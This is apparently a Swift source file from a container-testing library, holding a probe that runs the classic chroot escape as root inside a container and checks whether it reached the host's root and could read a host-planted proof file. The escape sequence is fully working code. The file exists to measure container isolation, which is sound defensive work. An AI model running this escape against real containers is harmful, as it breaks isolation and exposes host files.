import ContlabCore
import Foundation

/// The classic chroot escape, run as root inside a container: make a directory, chroot into it
/// (the working directory is now outside the root), climb with `..` (which stops only at the
/// process's root — and we are no longer under it), then chroot to where we stand.
///
/// Whether it worked is decided twice: inside, by comparing the reached "/" with the host's root
/// (device and inode, measured on the host); and by the host, which leaves a file with a random
/// secret outside the root filesystem, tells the probe only its host path, and checks the content
/// the probe read back.
public struct EscapeProbe {
    public struct Report: Codable, Equatable, Sendable {
        /// The probe saw the host's root directory at "/" after the escape.
        public var reachedHostRoot: Bool
        /// What "/" was after the attempt.
        public var root: FileIdentity?
        public var hostRoot: FileIdentity?
        /// A few names in the reached "/".
        public var entries: [String]
        /// What the probe read from the host's proof file, if it reached it.
        public var proofRead: String?
        /// The steps as system calls, in order, with their results.
        public var steps: [String]
        public var error: String?
    }

    public static let hostRootVariable = "CONTLAB_HOST_ROOT"
    public static let proofVariable = "CONTLAB_ESCAPE_PROOF"

    /// Run the escape in this process (which ends up wherever it got to: run it in a process of
    /// its own). `proofPath` is the host path of the host's proof file.
    public static func run(hostRoot: FileIdentity?, proofPath: String?) -> Report {
        var steps: [String] = []
        func step(_ call: String, _ rc: Int32) -> Bool {
            steps.append(rc == 0 ? "\(call) = 0" : "\(call) = -1 \(Errno.name(errno))")
            return rc == 0
        }
        var report = Report(
            reachedHostRoot: false, root: nil, hostRoot: hostRoot, entries: [], proofRead: nil, steps: [], error: nil)
        let dir = Sys.isDirectory("/tmp") ? "/tmp/.contlab-escape-\(getpid())" : "/.contlab-escape-\(getpid())"
        let oldRoot = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC)
        defer {
            // Remove the directory through the descriptor of the container's root, wherever we are now.
            if oldRoot >= 0 { unlinkat(oldRoot, String(dir.dropFirst()), AT_REMOVEDIR); close(oldRoot) }
        }
        guard step("mkdir(\"\(dir)\", 0700)", mkdir(dir, 0o700)) else {
            report.error = "cannot create \(dir): \(String(cString: strerror(errno)))"
            report.steps = steps
            return report
        }
        guard step("chdir(\"/\")", chdir("/")), step("chroot(\"\(dir)\")", chroot(dir)) else {
            report.error = "chroot needs root (CAP_SYS_CHROOT) inside the container"
            report.steps = steps
            return report
        }
        var climbed = 0
        for _ in 0..<64 where chdir("..") == 0 { climbed += 1 }
        steps.append("chdir(\"..\") × \(climbed)")
        _ = step("chroot(\".\")", chroot("."))
        _ = step("chdir(\"/\")", chdir("/"))
        report.root = FileIdentity(path: "/")
        report.reachedHostRoot = hostRoot != nil && report.root == hostRoot
        report.entries = ((try? FileManager.default.contentsOfDirectory(atPath: "/")) ?? []).sorted().prefix(12).map {
            $0
        }
        if let path = proofPath {
            report.proofRead = Sys.readText(path)
            steps.append("open(\"\(path)\", O_RDONLY) = " + (report.proofRead == nil ? "-1 \(Errno.name(errno))" : "3"))
        }
        report.steps = steps
        return report
    }

    /// The probe's entry point inside the container: run, print the report as JSON.
    public static func main(environment: [String: String]) -> Int32 {
        let hostRoot = environment[hostRootVariable].flatMap(parseIdentity)
        let report = run(hostRoot: hostRoot, proofPath: environment[proofVariable])
        let encoder = JSONEncoder()
        encoder.outputFormatting = [.sortedKeys]
        guard let data = try? encoder.encode(report) else { return 1 }
        print(String(decoding: data, as: UTF8.self))
        return report.error == nil ? 0 : 1
    }

    public static func format(_ id: FileIdentity) -> String { "\(id.device):\(id.inode)" }

    public static func parseIdentity(_ text: String) -> FileIdentity? {
        let parts = text.split(separator: ":")
        guard parts.count == 2, let d = UInt64(parts[0]), let i = UInt64(parts[1]) else { return nil }
        return FileIdentity(device: d, inode: i)
    }
}
